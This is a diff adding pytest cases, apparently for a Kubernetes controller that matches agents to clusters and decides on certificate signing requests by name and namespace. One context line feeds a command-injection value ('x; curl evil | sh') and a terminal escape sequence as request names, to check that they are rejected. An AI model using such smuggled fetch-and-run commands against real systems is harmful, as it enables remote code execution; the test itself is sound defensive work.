@@ -172,6 +172,25 @@ def test_agents_of_another_namespace_count_only_when_listed() -> None:
     assert invitations_for(SPOKE, found, listed) == {}, "a Cluster of the same name is another cluster"
 
 
+def agent(namespace: str, host: str, cluster: str = "one") -> tuple[Kind, Any]:
+    bound = {"name": cluster, "namespace": "a"}
+    body = {
+        "metadata": {"name": host, "namespace": namespace, "creationTimestamp": iso(NOW - 700)},
+        "spec": {"approved": True, "hostname": host, "clusterDeploymentName": bound},
+        "status": {"debugInfo": {"state": "installing"}, "progress": {"stageStartTime": iso(NOW - 600)}},
+    }
+    return AGENT, msgspec.convert(body, SOURCES[AGENT])
+
+
+def test_a_listed_namespace_does_not_shut_out_the_spokes_own() -> None:
+    listed = dataclasses.replace(POLICY, inventories={AGENT.resource: frozenset({"pool"})})
+    found = [agent("a", "own"), agent("pool", "pooled"), agent("b", "stray"), agent("pool", "other", "two")]
+    made = invitations_for(DEPLOYED, found, listed)
+    assert {name for name, those in made.items() if any(one.here(frozenset({"a/one"})) for one in those)} == {
+        "own", "pooled",
+    }  # fmt: skip
+
+
 def test_a_listed_namespace_opens_no_other_kind() -> None:
     """A host elsewhere that says this cluster's machine consumes it is another tenant's word."""
     machine = {"metadata": {"name": "m-1", "namespace": "a", "labels": {CLUSTER_NAME: "one"}}}
@@ -194,6 +213,19 @@ def test_nodes_of_a_spoke_do_not_say_which_cluster_it_is() -> None:
 
 def test_a_request_with_a_name_no_api_server_takes_is_left_out() -> None:
     assert pending_of([client(csr="x; curl evil | sh"), client(csr="\x1b[2J"), client(csr="")]) == []
+
+
+@pytest.mark.parametrize("name", ["csr-7x2k4", "node-csr-3Jq_Yd-Zk0aB_", "node-csr-abc-", "a.b"])
+def test_a_request_named_as_kubelets_name_theirs_is_judged(name: str) -> None:
+    assert [one.metadata.name for one in pending_of([client(csr=name)])] == [name]
+
+
+def test_requests_of_either_name_contest_one_host() -> None:
+    requests = [client(csr="csr-7x2k4"), client(csr="node-csr-3Jq_Yd-Zk0aB_")]
+    known = facts_in(DEPLOYED, [agent("a", "worker-1")])
+    for alone in requests:
+        assert [one.act for one in decide(pending_of([alone]), known, POLICY, NOW)] == [Act.APPROVE]
+    assert [one.act for one in decide(pending_of(requests), known, POLICY, NOW)] == [Act.LEAVE, Act.LEAVE]
 
 
 # -- what another's API server may send
